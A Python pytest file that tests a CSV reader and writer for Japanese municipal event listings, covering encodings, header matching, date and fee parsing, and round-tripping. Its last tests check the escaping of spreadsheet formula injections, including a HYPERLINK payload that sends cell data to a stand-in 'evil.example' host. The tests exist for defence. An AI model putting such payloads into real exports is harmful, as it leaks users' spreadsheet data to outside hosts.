"""Reading and writing the 「イベント一覧」 CSV, without a database."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from manabiya.catalog import eventcsv
from manabiya.catalog.eventcsv import COLUMNS, EventRecord, dates_from_sessions, read_events
from manabiya.core.errors import RuleViolation

# A complete row of 小金井市's file; tests change what they are about.
BASE_ROW = {
    "都道府県コード又は市区町村コード": "132101",
    "NO": "1",
    "都道府県名": "東京都",
    "市区町村名": "小金井市",
    "イベント名": "親子で楽しむ星空観察会",
    "イベント名_カナ": "オヤコデタノシムホシゾラカンサツカイ",
    "イベント名_英語": "Stargazing for families",
    "開始日": "2027-01-16",
    "終了日": "2027-01-16",
    "開始時間": "18:30",
    "終了時間": "20:00",
    "開始日時特記事項": "雨天中止",
    "説明": "天体望遠鏡で冬の星座を観察します。",
    "料金(基本)": "無料",
    "料金(詳細)": "保険料50円",
    "連絡先名称": "小金井市生涯学習課",
    "連絡先電話番号": "042-387-9876",
    "連絡先内線番号": "1234",
    "主催者": "小金井市生涯学習課",
    "場所名称": "小金井市公民館本館",
    "住所": "東京都小金井市本町1-2-3",
    "方書": "3階 講座室",
    "緯度": "35.699",
    "経度": "139.503",
    "アクセス方法": "JR武蔵小金井駅から徒歩5分",
    "駐車場情報": "なし",
    "定員": "30",
    "参加申込終了日": "2027-01-10",
    "参加申込終了時間": "17:00",
    "参加申込方法": "電話で生涯学習課へ",
    "URL": "https://www.city.koganei.example.jp/hoshizora",
    "備考": "",
}

pytestmark = pytest.mark.usefixtures("english")


def row(**changes) -> dict[str, str]:
    """BASE_ROW with changes; keyword names use the column without brackets (料金基本=…)."""
    result = dict(BASE_ROW)
    for key, value in changes.items():
        column = next(c for c in COLUMNS if c.replace("(", "").replace(")", "") == key)
        result[column] = value
    return result


def event_csv(
    rows: list[dict[str, str]], *, header: list[str] | None = None, encoding: str = "utf-8", extra: int = 0
) -> bytes:
    """A file with `rows` (dicts by standard column), CRLF line ends as Excel writes them.
    `header` renames the columns as written; `extra` appends that many city-specific columns."""
    written = list(header or COLUMNS) + [f"独自項目{n}" for n in range(1, extra + 1)]
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(written)
    for cells in rows:
        writer.writerow([cells.get(column, "") for column in COLUMNS] + [f"自由記述{n}" for n in range(extra)])
    return buffer.getvalue().encode(encoding)


def test_same_file_reads_the_same_in_utf8_utf8_bom_and_cp932():
    """UTF-8, UTF-8 with a byte-order mark and Excel's Shift_JIS (cp932) give the same records."""
    rows = [row(), row(NO="2", イベント名="ﾊﾝｶｸｶﾅ教室 ①", 料金基本="５００円")]
    parsed = {encoding: read_events(event_csv(rows, encoding=encoding)) for encoding in ("utf-8", "utf-8-sig", "cp932")}
    assert {encoding: p.encoding for encoding, p in parsed.items()} == {
        "utf-8": "utf-8",
        "utf-8-sig": "utf-8-sig",
        "cp932": "cp932",
    }
    assert all(not p.errors for p in parsed.values())
    assert parsed["utf-8"].records == parsed["utf-8-sig"].records == parsed["cp932"].records
    assert parsed["cp932"].records[1].title == "ﾊﾝｶｸｶﾅ教室 ①"
    assert parsed["cp932"].records[1].fee == 500


def test_bytes_that_are_not_text_are_refused():
    with pytest.raises(RuleViolation) as refused:
        read_events(b"\x89PNG\r\n\x1a\n\x00\xff\xfe\xfd")
    assert refused.value.field == "file"


def test_headers_match_after_nfkc_and_extra_columns_are_ignored():
    """Full-width brackets (料金（基本）) name the same column; a city's own columns are skipped."""
    header = [c.replace("(", "（").replace(")", "）") for c in COLUMNS]
    parsed = read_events(event_csv([row(料金基本="1,000円", 料金詳細="教材費込み")], header=header, extra=2))
    assert not parsed.errors
    assert parsed.records[0].fee == 1000
    assert parsed.records[0].fee_note == "教材費込み"
    assert parsed.ignored_columns == ["独自項目1", "独自項目2"]


def test_header_without_required_columns_is_refused_at_line_1():
    header = [c if c != "開始日" else "開催日" for c in COLUMNS]
    parsed = read_events(event_csv([row()], header=header))
    assert [(p.line, p.column) for p in parsed.errors] == [(1, "開始日")]
    assert parsed.records == []


def test_swapped_latitude_and_longitude_are_swapped_back_with_a_warning():
    parsed = read_events(event_csv([row(緯度="139.503", 経度="35.699"), row(NO="2")]))
    assert not parsed.errors
    first, second = parsed.records
    assert (first.latitude, first.longitude) == (Decimal("35.699000"), Decimal("139.503000"))
    assert (second.latitude, second.longitude) == (Decimal("35.699000"), Decimal("139.503000"))
    assert [(w.line, w.column) for w in parsed.warnings] == [(2, "緯度")]


@pytest.mark.parametrize(
    ("cells", "expected"),
    [
        (
            {"開始日": "2027/1/6", "開始時間": "9:00", "終了時間": "10:30:00"},
            (dt.date(2027, 1, 6), dt.time(9), dt.time(10, 30)),
        ),
        (
            {"開始日": "２０２７－０１－０６", "開始時間": "０９：００", "終了時間": ""},
            (dt.date(2027, 1, 6), dt.time(9), None),
        ),
        ({"開始日": "2027年1月6日", "開始時間": "", "終了時間": ""}, (dt.date(2027, 1, 6), None, None)),
    ],
)
def test_dates_and_times_in_the_forms_files_use(cells, expected):
    parsed = read_events(event_csv([{**BASE_ROW, **cells, "終了日": ""}]))
    assert not parsed.errors
    record = parsed.records[0]
    assert (record.start_date, record.start_time, record.end_time) == expected


@pytest.mark.parametrize(("written", "fee"), [("無料", 0), ("0", 0), ("500", 500), ("５００円", 500), ("", 0)])
def test_basic_fee_forms(written, fee):
    parsed = read_events(event_csv([row(料金基本=written)]))
    assert not parsed.errors
    assert parsed.records[0].fee == fee


def test_every_bad_cell_is_reported_with_its_physical_line_and_column():
    """Line numbers count physical lines: a quoted cell with a line break pushes later rows down."""
    rows = [
        row(説明="一行目\n二行目"),  # lines 2-3, fine
        row(NO="2", イベント名="", 開始日="2027/13/01", 料金基本="有料"),  # line 4
        row(NO="3", 開始日="2027-02-10", 終了日="2027-02-09", 定員="三十人"),  # line 5
        row(NO="4", 開始時間="", 緯度="35.7", 経度="", URL="www.example.jp"),  # line 6
        row(NO="5", 開始時間="14:00", 終了時間="13:00"),  # line 7
    ]
    parsed = read_events(event_csv(rows))
    found = {(p.line, p.column) for p in parsed.errors}
    assert found == {
        (4, "イベント名"),
        (4, "開始日"),
        (4, "料金(基本)"),
        (5, "終了日"),
        (5, "定員"),
        (6, "開始時間"),
        (6, "経度"),
        (6, "URL"),
        (7, "終了時間"),
    }
    assert all(p.message for p in parsed.errors)
    assert str(next(p for p in parsed.errors if p.line == 5 and p.column == "定員")).startswith("line 5, column 定員: ")


def at(year, month, day, hour=0, minute=0) -> dt.datetime:
    return timezone.make_aware(dt.datetime(year, month, day, hour, minute))


@pytest.mark.parametrize(
    ("dates", "sessions"),
    [
        # One day: one session.
        (("2027-01-16", "2027-01-16", "18:30", "20:00"), [(at(2027, 1, 16, 18, 30), at(2027, 1, 16, 20))]),
        # One day, no end time: the session has no end.
        (("2027-01-16", "", "18:30", ""), [(at(2027, 1, 16, 18, 30), None)]),
        # Three days with times: one session a day.
        (
            ("2027-07-28", "2027-07-30", "10:00", "12:00"),
            [(at(2027, 7, d, 10), at(2027, 7, d, 12)) for d in (28, 29, 30)],
        ),
        # Seven days is still daily; eight is one long session.
        (
            ("2027-07-01", "2027-07-07", "10:00", "12:00"),
            [(at(2027, 7, d, 10), at(2027, 7, d, 12)) for d in range(1, 8)],
        ),
        (("2027-07-01", "2027-07-08", "10:00", "17:00"), [(at(2027, 7, 1, 10), at(2027, 7, 8, 17))]),
        # No time: whole days, one session to 24:00 of the last day.
        (("2027-10-01", "2027-10-31", "", ""), [(at(2027, 10, 1), at(2027, 11, 1))]),
        (("2027-10-01", "", "", ""), [(at(2027, 10, 1), at(2027, 10, 2))]),
    ],
)
def test_session_rule_and_its_inverse(dates, sessions):
    """A row's dates become sessions, and dates_from_sessions gives the same dates back."""
    start, end, start_time, end_time = dates
    parsed = read_events(event_csv([row(開始日=start, 終了日=end, 開始時間=start_time, 終了時間=end_time)]))
    assert not parsed.errors
    record = parsed.records[0]
    assert record.session_times() == sessions
    back = dates_from_sessions(first_start=sessions[0][0], last_start=sessions[-1][0], last_end=sessions[-1][1])
    assert back == (
        record.start_date,
        record.start_time,
        record.end_date or record.start_date,
        record.end_time,
    )


def test_written_file_reads_back_the_same_record():
    record = read_events(event_csv([row(説明="改行を\n含む説明", 料金基本="500")])).records[0]
    data = eventcsv.events_csv_bytes([record])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.splitlines()[0].decode("utf-8-sig").split(",") == list(COLUMNS)
    again = read_events(data)
    assert again.encoding == "utf-8-sig"
    assert again.records == [record]


def test_blank_rows_are_skipped_and_an_empty_file_is_reported():
    data = event_csv([row()]) + b",,,,\r\n\r\n"
    assert len(read_events(data).records) == 1
    assert [p.line for p in read_events(b"").errors] == [1]
    assert isinstance(read_events(event_csv([])).errors[0], eventcsv.Problem)


def test_record_defaults_make_an_empty_row():
    assert eventcsv.record_cells(EventRecord()) == [""] * 13 + ["0"] + [""] * 18


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example/","click")', '\'=HYPERLINK("http://evil.example/","click")'),
        ("+81-42-387-9876", "'+81-42-387-9876"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("'=already quoted", "''=already quoted"),  # one more quote, so reading gives it back
        ("'quoted text", "'quoted text"),  # a quote before anything else is left alone
        ("-12", "-12"),  # a plain number is data, not a formula
        ("+3.5", "+3.5"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_starts_in_text_cells_are_quoted_and_read_back(value, cell):
    """A text cell a spreadsheet would run as a formula is written behind a single quote, and
    reading the file takes the quote off again."""
    assert eventcsv.escape_formula(value) == cell
    assert eventcsv.unescape_formula(cell) == value


def test_written_file_defuses_formulas_and_reads_back_exactly():
    """Text columns are quoted in the file; typed columns, NO among them when it is a number,
    are written as they are; reading the file gives back the same record."""
    record = read_events(event_csv([row(NO="-3", 料金基本="500")])).records[0]
    record.title = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'
    record.description = "@cmd"
    record.contact_phone = "-"
    record.organizer = "+SUM(1,2)"
    record.remarks = "'=quoted on purpose"
    data = eventcsv.events_csv_bytes([record])
    written = next(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert written["イベント名"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'
    assert written["説明"] == "'@cmd"
    assert written["連絡先電話番号"] == "'-"
    assert written["主催者"] == "'+SUM(1,2)"
    assert written["備考"] == "''=quoted on purpose"
    assert written["NO"] == "-3"
    assert (written["緯度"], written["経度"], written["料金(基本)"]) == ("35.699", "139.503", "500")
    assert (written["開始日"], written["開始時間"]) == ("2027-01-16", "18:30")
    again = read_events(data)
    assert not again.errors
    assert again.records == [record]


def test_reading_takes_one_quote_off_a_formula_start_only():
    """Files from elsewhere that quote formulas the same way read as the text meant."""
    parsed = read_events(event_csv([row(イベント名="'=1+1", 連絡先電話番号="'-", 料金詳細="'教材費")]))
    record = parsed.records[0]
    assert (record.title, record.contact_phone, record.fee_note) == ("=1+1", "-", "'教材費")
